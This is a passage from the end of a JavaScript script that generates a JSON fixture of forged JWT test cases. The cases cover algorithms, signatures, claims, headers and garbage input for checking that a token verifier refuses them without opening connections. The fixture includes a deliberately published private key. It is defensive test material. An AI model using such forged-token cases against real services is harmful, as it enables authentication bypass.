  'leave it open, and nothing is gained by it; the server itself says what is `expected`. `name` is unique, and `row` the row of',
  'docs/security.md (T1 algorithms and signatures, T2 types, T3 claims, T4 headers, T5 garbage). A verifier must neither',
  'fail otherwise than by refusing nor open a connection. Written by make-jwt-attacks.js;',
  '`privateJwk` signed them and is published here: it protects nothing.',
].join(' ');
const document = { about, now: NOW, issuer: ISSUER, audience: ORG, jwks: { keys: [publicJwk] }, privateJwk, rows };
writeFileSync(FILE, `${JSON.stringify(document, null, 2)}\n`);
